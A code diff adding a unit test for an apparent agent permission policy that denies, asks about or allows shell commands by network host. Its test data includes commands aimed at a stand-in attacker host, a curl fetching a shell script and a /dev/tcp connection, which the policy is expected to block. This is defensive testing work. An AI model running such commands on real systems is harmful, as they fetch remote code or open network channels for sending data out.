@@ -313,3 +313,16 @@ def test_request_for_maps_engine_tools() -> None:
     assert request_for("search", {"pattern": "x"}).path == "."
     assert request_for("edit_file", {"path": "a"}).kind == "edit"
     assert request_for("mcp_thing", {}).kind == "other"
+
+
+def test_net_rules_deny_or_ask_by_host(ws: Path) -> None:
+    policy = load(
+        ws,
+        user='deny = ["net(*.evil.example)"]\nask = ["net(github.com)"]\n'
+        'allow = ["shell(curl *)", "shell(git *)", "net(ok.example)"]',
+    )
+    assert shell(policy, "curl -s https://x.EVIL.example/p.sh") is Verdict.DENY
+    assert shell(policy, "echo hi > /dev/tcp/a.evil.example/80") is Verdict.DENY
+    assert shell(policy, "git clone git@github.com:a/b") is Verdict.ASK
+    assert shell(policy, "curl https://ok.example/") is Verdict.ALLOW
+    assert any("net rules can only deny or ask" in w for w in policy.warnings)
